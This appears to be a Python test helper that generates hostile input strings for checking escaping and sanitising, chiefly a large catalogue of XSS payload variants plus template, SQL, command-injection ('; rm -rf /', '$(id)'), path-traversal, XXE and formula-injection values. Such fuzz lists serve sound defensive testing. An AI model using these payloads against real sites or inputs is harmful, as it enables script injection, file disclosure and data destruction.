"""Write texts that try to break out of the place they are put in, and known forms of scripts."""

from __future__ import annotations

from itertools import product

PAYLOADS = (
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "</title><script>a()</script>", "</textarea><b>",
    "--><script>a()</script>", "]]><script>a()</script>", "</script><script>a()", "</style><style>*{}", "<!--", "-->", "<![CDATA[", "]]>", "<?php a(); ?>",
    "<base href=//v.example/>", "<meta http-equiv=refresh content=0>", "<iframe srcdoc=x>", "javascript:alert(1)", "data:text/html,<b>", "vbscript:a",
    "{{ 7*7 }}", "{{ settings }}", "{% include 'x' %}", "{# x #}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "%(title)s", "{0}", "{title}", "%s%n%x", "$(id)", "`id`", "; rm -rf /",
    "../../etc/passwd", "..\\..\\x", "%2e%2e%2f", "/etc/passwd", "C:\\x", "file:///etc/passwd", "' OR 1=1 --", '" OR ""="', "=1+1", "@SUM(1)", "+1", "-1",
    "null", "None", "undefined", "NaN", "true", "false", "0", "-0", "1e309", "007", "0x41", "2026-02-12", "12:30", "~", "yes", "no", "on", "off", "[]", "{}", "&a", "*a", "!!str a", "|", ">", "%YAML",
    "&amp;", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;b&#x3e;", "&quot;&gt;", "&amp;lt;b&amp;gt;", "&copy", "&notin;", "&#0;", "&#xD800;", "&bogus;",
    "**a** _b_", "[a](javascript:b)", "![a](b)", "`code`", "# a", "> a", "- a", "1. a", "| a | b |", "***", "[^1]", "[a]: b", "~~~", "    a", "a\\", "\\<b\\>", "<a@b.example>", "<https://v.example/>",
    "a\tb", "a  b", " a ", "a\u00a0b", "a\u200bb", "a\u202eb", "a\u2028b", "a\u2029b", "\ufeffa", "a\u00adb", "e\u0301", "Z\u0351\u036b\u0343", "ا", "שלום", "日本語", "👩\u200d👩\u200d👧", "🏴", "\U0001f1e7\U0001f1ea", "ﷺ", "İ", "ß", "ﬁ", "𝕒", "\ufffd", "\U0010ffff"[:0] + "￼",
    "w" * 300, "a b " * 60, "'", '"', "''", '""', "`", "\\", "/", "//", "\\\\", "<", ">", "<>", "</>", "&", ";", "?", "#", "%", "=", "a=b", "a:b", ": a", "a: b", "-", "--", "...", "…", "a#b", "a #b",
)  # fmt: skip
BREAKS = ("{}", '"{}', "'{}", '">{}', "'>{}", "x {} y")


def hostile() -> list[str]:
    """List the texts, each once; a text must show something."""
    texts = (
        form.format(text) if "{}" in form else text for text, form in product(PAYLOADS, BREAKS)
    )
    return list(dict.fromkeys(text for text in texts if text.strip()))


TAGS = (
    "<script>a()</script>", "<SCRIPT>a()</SCRIPT>", "<ScRiPt>a()</sCrIpT>", "<script >a()</script >", "<script\n>a()</script>", "<script/x>a()</script>", "<script src=//v.example/a>", "<script src=//v.example/a></script>",
    "<<script>a()//<</script>", "<scr<script>ipt>a()</scr</script>ipt>", "<script>a()", "<script", "</script><script>a()</script>", "<script type=module>a()</script>", "<script language=vbscript>a</script>", "<script>/*</script><b>*/a()</script>",
    "<svg/onload=a()>", "<svg onload=a()//", "<svg><script>a()</script></svg>", "<svg><script href=//v.example/a /></svg>", "<svg><a xlink:href=javascript:a()><text>b</text></a></svg>", "<svg><animate onbegin=a() attributeName=x></svg>", "<svg><set attributeName=href to=javascript:a()></svg>",
    "<svg><use href=data:image/svg+xml,a /></svg>", "<svg><foreignObject><iframe src=javascript:a()></foreignObject></svg>", "<svg><style>@import'//v.example/a'</style></svg>", "<svg><image href=//v.example/a /></svg>",
    "<math><mi href=javascript:a()>b</mi></math>", "<math><annotation-xml encoding=text/html><img src=x onerror=a()></annotation-xml></math>", "<math><mtext><table><mglyph><style><img src=x onerror=a()>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=a()>",
    "<img src=x onerror=a()>", "<img src=x onerror='a()'>", '<img src=x onerror="a()">', "<img src=x onerror=`a()`>", "<img/src=x/onerror=a()>", "<img src=x:x onerror\n=a()>", "<img src=javascript:a()>", "<img src='jav&#x09;ascript:a()'>", '<img src="jav\tascript:a()">', "<img dynsrc=javascript:a()>",
    "<img lowsrc=javascript:a()>", "<img srcset='x 1x, javascript:a() 2x'>", "<img src=//v.example/a>", "<img src=https://v.example/a>", "<img src=data:image/svg+xml;base64,AA==>", "<image src=x onerror=a()>", '<img """><script>a()</script>">', "<img src=x onload=a() onerror=b()>", "<img usemap=#a><map name=a><area href=javascript:b()></map>",
    "<body onload=a()>", "<body background=//v.example/a>", "<body onpageshow=a()>", "<body onhashchange=a()>", "<html onclick=a()>", "<frameset onload=a()>", "<frame src=javascript:a()>", "<iframe src=javascript:a()>", "<iframe srcdoc='<script>a()</script>'>", "<iframe src=//v.example>", "<iframe onload=a()>",
    "<object data=javascript:a()>", "<object data=//v.example/a.swf>", "<object type=text/html data=a>", "<embed src=javascript:a()>", "<embed src=//v.example/a.swf>", "<applet code=a>", "<param name=src value=//v.example>", "<bgsound src=javascript:a()>", "<video src=x onerror=a()>", "<video poster=javascript:a()>", "<video><source onerror=a()>", "<audio src=x onerror=a()>", "<track src=//v.example/a>",
    "<link rel=stylesheet href=javascript:a()>", "<link rel=stylesheet href=//v.example/a>", "<link rel=import href=//v.example>", "<link rel=prefetch href=//v.example>", "<style>@import'javascript:a()'</style>", "<style>*{background:url(javascript:a())}</style>", "<style>b{behavior:url(a)}</style>", "<style onload=a()>", "<p style=background:url(//v.example/a)>b</p>", "<p style='width:expression(a())'>b</p>", "<p style=-moz-binding:url(a)>b</p>",
    "<meta http-equiv=refresh content='0;url=javascript:a()'>", "<meta http-equiv=refresh content='0;url=//v.example'>", "<meta http-equiv=Set-Cookie content=a=b>", "<meta charset=utf-7>+ADw-script+AD4-a()+ADw-/script+AD4-", "<base href=javascript:a()//>", "<base target=_blank>",
    "<a href=javascript:a()>b</a>", "<a href=JaVaScRiPt:a()>b</a>", "<a href='java\nscript:a()'>b</a>", "<a href='java&Tab;script:a()'>b</a>", "<a href='java&#10;script:a()'>b</a>", "<a href='&#106;avascript:a()'>b</a>", "<a href='&#x6A;avascript:a()'>b</a>", "<a href='&#0000106avascript:a()'>b</a>", "<a href=' &#14; javascript:a()'>b</a>", "<a href=javascript&colon;a()>b</a>", "<a href=vbscript:a>b</a>", "<a href=data:text/html,<script>a()</script>>b</a>", "<a href=data:text/html;base64,PHNjcmlwdD4=>b</a>", "<a href=//v.example ping=//v.example>b</a>", "<a href=x target=_blank>b</a>", "<a onmouseover=a()>b</a>", "<a href=x onclick=a()>b</a>", "<a href='x' style='position:fixed;inset:0'>b</a>", "<a href=file:///etc/passwd>b</a>", "<a href=blob:a>b</a>",
    "<form action=javascript:a()><button>b</button></form>", "<form><button formaction=javascript:a()>b</button></form>", "<input onfocus=a() autofocus>", "<input type=image src=x onerror=a()>", "<select onfocus=a() autofocus>", "<textarea onfocus=a() autofocus>", "<keygen autofocus onfocus=a()>", "<button onclick=a()>b</button>", "<isindex action=javascript:a() type=image>",
    "<details open ontoggle=a()>", "<marquee onstart=a()>b</marquee>", "<dialog open onclose=a()>", "<div onpointerenter=a()>b</div>", "<p contenteditable onblur=a()>b</p>", "<b draggable=true ondragstart=a()>b</b>", "<div/onclick=a()>b</div>", "<x onclick=a()>b</x>", "<x-y onclick=a()>b</x-y>", "<xss id=x tabindex=1 onfocus=a()>", "<div popover ontoggle=a()>b</div>",
    "<template><script>a()</script></template>", "<div><template shadowrootmode=open><img src=x onerror=a()></template></div>", "<noscript><p title='</noscript><img src=x onerror=a()>'></noscript>", "<title><img title='</title><img src=x onerror=a()>'></title>", "<xmp><p title='</xmp><img src=x onerror=a()>'></xmp>", "<noembed><img src=x onerror=a()></noembed>", "<plaintext><img src=x onerror=a()>", "<listing>&lt;img onerror=a()&gt;</listing>",
    "<!--><img src=x onerror=a()>-->", "<!--[if gte IE 4]><script>a()</script><![endif]-->", "<!-- --!><img src=x onerror=a()>", "<![CDATA[<img src=x onerror=a()>]]>", "<?xml-stylesheet href=javascript:a()?>", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>", "<!x><img src=x onerror=a()>", "</p onclick=a()>", "<p\x0conclick=a()>b</p>", "<p id='x' id='y' onclick=a()>b</p>", "<p class='\" onclick=a()'>b</p>", "<table background=//v.example/a><tr><td>b</table>", "<td background=javascript:a()>", "<xml onreadystatechange=a()>",
)  # fmt: skip


def forms() -> list[str]:
    """List the known forms of scripts in HTML."""
    return list(dict.fromkeys(TAGS))
